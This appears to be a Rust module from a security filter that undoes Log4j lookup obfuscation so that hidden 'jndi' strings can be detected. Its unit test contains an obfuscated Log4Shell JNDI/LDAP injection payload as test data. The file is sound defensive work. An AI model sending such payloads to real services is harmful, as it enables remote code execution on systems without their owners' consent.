//! Lookups of Log4j, which spell what nobody is to read.

use crate::payload::text::{at, find, from, slice};

/// The value with lookups of Log4j resolved that only spell letters: `${lower:j}`, `${::-j}`, `${env:X:-j}`.
pub(crate) fn without_lookups(value: &[u8]) -> Vec<u8> {
    // Beyond these nobody spells a word, and they bound the work.
    const DEPTH_MAX: usize = 8;
    const CONTENT_MAX: usize = 256;
    let mut out: Vec<u8> = Vec::with_capacity(value.len());
    let mut open: Vec<usize> = Vec::new();
    let mut index = 0;
    while let Some(&byte) = value.get(index) {
        if byte == b'$' && at(value, index + 1) == b'{' {
            if open.len() == DEPTH_MAX {
                open.remove(0);
            }
            open.push(out.len());
            out.extend_from_slice(b"${");
            index += 2;
            continue;
        }
        index += 1;
        if byte != b'}' {
            out.push(byte);
            continue;
        }
        let Some(start) = open.pop() else {
            out.push(byte);
            continue;
        };
        let content = slice(&out, start + 2, out.len());
        if content.len() > CONTENT_MAX {
            out.push(byte);
            continue;
        }
        match resolved(content) {
            Some(text) => {
                let text = text.to_vec();
                out.truncate(start);
                out.extend_from_slice(&text);
            }
            None => out.push(byte),
        }
    }
    out
}

fn resolved(content: &[u8]) -> Option<&[u8]> {
    if content.starts_with(b"jndi") {
        return None;
    }
    if let Some(place) = find(content, b":-") {
        return Some(from(content, place + 2));
    }
    let colon = content.iter().position(|&byte| byte == b':')?;
    let name = slice(content, 0, colon);
    let rest = from(content, colon + 1);
    match name {
        b"lower" | b"upper" => Some(rest),
        b"date" => Some(rest.trim_ascii()).map(|rest| {
            let rest = rest.strip_prefix(b"'").unwrap_or(rest);
            rest.strip_suffix(b"'").unwrap_or(rest)
        }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_that_spell_letters_are_resolved() {
        let text = b"${${lower:j}${::-n}${env:X:-d}${upper:i}:ldap://x/a}";
        assert_eq!(without_lookups(text), b"${jndi:ldap://x/a}");
        assert_eq!(without_lookups(b"${user}"), b"${user}");
    }
}
